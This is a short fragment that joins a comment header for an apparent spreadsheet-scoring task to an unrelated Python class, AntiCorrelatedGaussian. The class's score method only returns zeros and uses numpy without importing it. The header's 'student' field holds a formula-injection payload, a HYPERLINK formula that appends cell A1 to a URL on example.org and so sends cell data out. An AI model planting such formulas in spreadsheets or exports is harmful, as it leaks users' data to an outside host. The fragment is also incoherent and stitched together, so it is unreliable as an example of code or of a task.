# task = "score"
# family = "spreadsheets"
# why = "Has a name that is a formula."
# then = "No cell of the table starts one."
# student = "=HYPERLINK(%22http:example.org?%22&A1,%22ten%22)"


class AntiCorrelatedGaussian:
    def score(self, x):
        return np.zeros_like(x)
